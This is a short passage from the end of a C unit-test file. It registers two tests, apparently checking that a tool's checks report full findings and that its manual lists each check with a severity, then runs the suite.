	tcase_add_test(tc, every_check_has_all_that_a_finding_tells);
	tcase_add_test(tc, the_manual_names_each_check_with_its_severity);
	suite_add_tcase(s, tc);
	return suite_run(s);
}
